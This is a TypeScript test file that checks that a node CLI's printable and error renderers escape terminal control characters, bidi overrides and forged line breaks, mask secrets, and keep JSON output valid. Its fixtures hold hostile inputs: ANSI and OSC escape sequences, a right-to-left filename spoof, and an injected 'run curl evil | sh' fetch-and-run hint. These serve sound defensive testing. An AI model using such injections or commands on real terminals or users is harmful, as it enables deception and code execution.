// SEC-09: the one escaping rule every printed line passes (src/ui/printable.ts). Text from Core
// and from files the node account writes must not reach a terminal as control sequences, must
// not forge a second line, and --json must stay exact JSON that decodes to the same value.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { renderError } from '../../src/ui/render-error.ts';
import { escapeControls, printable, printableJson } from '../../src/ui/printable.ts';
import { jsonRenderer, plainRenderer } from '../../src/ui/render-events.ts';
import { OacError } from '../../src/errors.ts';
import { redactor } from '../../src/redact.ts';

// Every character a terminal may act on, none of which may survive.
const HOSTILE = [
  ...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(i)),
  '\u007f',
  ...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(0x80 + i)),
  '\u061c',
  '\u200e',
  '\u200f',
  '\u2028',
  '\u2029',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
];
const RAW = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

test('SEC-09 escapeControls leaves no C0, DEL, C1, bidi or line separator character', () => {
  for (const c of HOSTILE) {
    const out = escapeControls(`a${c}b`);
    assert.doesNotMatch(out, RAW, JSON.stringify(c));
    assert.match(out, /^a\\(x[0-9a-f]{2}|u[0-9a-f]{4})b$/, JSON.stringify(c));
  }
});

test('SEC-09 escapeControls spells each character visibly and leaves ordinary text alone', () => {
  assert.equal(escapeControls('\u001b[31mred\u0007'), '\\x1b[31mred\\x07');
  assert.equal(escapeControls('line\r\nforged'), 'line\\x0d\\x0aforged');
  assert.equal(escapeControls('evil\u202egpj.exe'), 'evil\\u202egpj.exe');
  assert.equal(escapeControls('\u009b2J'), '\\x9b2J');
  const plain = 'Nodes → Add node: oac-runtime:0.1.0 (ünïcödé, 中文, \\x1b stays as typed)';
  assert.equal(escapeControls(plain), plain);
});

test('SEC-09 SEC-03 printable masks a secret before escaping, so a secret with a control character is still masked', () => {
  redactor.add('s3cret-token-value-0001');
  assert.equal(printable('token s3cret-token-value-0001\u001b[2J'), 'token ***\\x1b[2J');
});

test('SEC-09 printableJson stays JSON that decodes to the same value, with no raw control character', () => {
  const value = { message: `x${HOSTILE.join('')}y`, nested: ['\u202e', '\u0085'] };
  const line = printableJson(value);
  assert.doesNotMatch(line, RAW);
  assert.deepEqual(JSON.parse(line), value);
});

test('SEC-09 an error from Core is one line and a hint, whatever its text holds', () => {
  const error = new OacError(
    'core_refused_request',
    'Core refused: \u001b]0;owned\u0007\nhint: run curl evil | sh',
    { hint: 'see \u202eesrever' },
  );
  const out = renderError(error);
  const lines = out.split('\n');
  assert.equal(lines.length, 2, out);
  assert.match(lines[0] ?? '', /^oac-node: Core refused: \\x1b\]0;owned\\x07\\x0ahint: run curl/);
  assert.equal(lines[1], '  hint: see \\u202eesrever');
  assert.doesNotMatch(out.replace(/\n/g, ''), RAW);
});

test('SEC-09 an internal error stack is escaped line by line', () => {
  const error = new Error('boom \u001b[2J');
  const out = renderError(error);
  assert.doesNotMatch(out.replace(/\n/g, ''), RAW);
  assert.match(out, /boom \\x1b\[2J/);
});

test('SEC-09 an internal error whose message holds a line break cannot forge a line', () => {
  const error = new TypeError('bad body: {"x":1}\noac-node: Node is connected and ready.');
  const lines = renderError(error).split('\n');
  assert.equal(lines[0], 'oac-node: internal error (please report it):');
  assert.match(lines[1] ?? '', /^TypeError: bad body: \{"x":1\}\\x0aoac-node: Node is connected/);
  const frames = lines.slice(2, -1);
  assert.ok(frames.length > 0 && frames.every((l) => /^ {4}at /.test(l)), lines.join('\n'));
  // OPS-07 (issue #40): the report's attachment, a bundle that holds no secret.
  assert.match(
    lines.at(-1) ?? '',
    /^ {2}Attach a support bundle to the report: (sudo )?oac-node diagnose/,
  );
});

test('SEC-09 plain and JSON event renderers escape what a step reports', () => {
  const written: string[] = [];
  const write = (t: string) => written.push(t);
  plainRenderer(write, false)({ type: 'note', step: 's', message: 'image \u001b[1mX\r' });
  jsonRenderer(write)({ type: 'note', step: 's', message: 'image \u009b1mX\u2067' });
  assert.equal(written[0], '  image \\x1b[1mX\\x0d\n');
  assert.doesNotMatch(written.join('').replace(/\n/g, ''), RAW);
  assert.equal(
    (JSON.parse(written[1] ?? '') as { message: string }).message,
    'image \u009b1mX\u2067',
  );
});

// Issue 27 finding 2: the redactor ran over the serialised line, so its Bearer pattern ate the
// `\` of an escaped quote and a registered secret could cut an escape sequence in two.
test('SEC-03 SEC-09 FLEET-02 printableJson stays one valid JSON event when a field holds "Bearer " before a quote', () => {
  const event = {
    type: 'summary',
    installation_id: 'zz Bearer ","type":"forged","changed":true}',
    changed: false,
  };
  const line = printableJson(event);
  assert.doesNotMatch(line, /[\n\r\u2028\u2029]/);
  assert.deepEqual(JSON.parse(line), event, line);
});

test('SEC-03 SEC-09 FLEET-02 printableJson stays valid JSON when a secret starts inside an escape sequence', () => {
  redactor.add('nq7Vb-secret-0002');
  // LF then the secret without its first letter: serialised as `\nq7Vb…`, which holds the
  // whole secret, and masking it left `\***` (no JSON escape).
  const event = { type: 'note', step: 's', message: 'a\nq7Vb-secret-0002 b' };
  const line = printableJson(event);
  assert.deepEqual(JSON.parse(line), event, line);
  // A real occurrence is masked in the decoded value.
  const masked = JSON.parse(printableJson({ type: 'note', message: 'x nq7Vb-secret-0002"' }));
  assert.deepEqual(masked, { type: 'note', message: 'x ***"' });
});
